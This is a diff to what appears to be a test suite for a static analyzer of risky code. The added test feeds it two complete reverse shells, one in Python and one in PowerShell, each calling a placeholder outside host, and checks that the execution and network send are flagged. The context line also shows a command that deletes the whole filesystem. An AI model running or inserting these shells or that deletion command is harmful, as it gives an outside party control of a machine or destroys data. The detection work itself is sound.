@@ -334,6 +334,28 @@ shutil.rmtree("/", ignore_errors=True)
       expect(find(es, 'destroy')?.line).toBe(14);
     });
 
+    it('a reverse shell: the shell it spawns is driven from the network', () => {
+      const es = py(`import socket, os, pty
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(("192.0.2.66", 4444))
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+pty.spawn("/bin/bash")
+`);
+      expect(find(es, 'exec')).toMatchObject({ line: 6, origin: 'downloaded' });
+      const ps1 = ps(`$c = New-Object System.Net.Sockets.TCPClient('192.0.2.67', 443)
+$s = $c.GetStream()
+[byte[]]$b = 0..65535 | % { 0 }
+while (($i = $s.Read($b, 0, $b.Length)) -ne 0) {
+  $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)
+  $o = (iex $d 2>&1 | Out-String)
+  $s.Write(([Text.Encoding]::ASCII.GetBytes($o)), 0, $o.Length)
+}
+`);
+      expect(find(ps1, 'exec')).toMatchObject({ line: 6, origin: 'downloaded' });
+      expect(find(ps1, 'send')).toMatchObject({ host: '192.0.2.67', channel: 'socket', line: 7 });
+    });
+
     it('fork + setsid is a hidden spawn; setuid(0) escalates', () => {
       const es = py(`import os
 if os.fork() == 0:
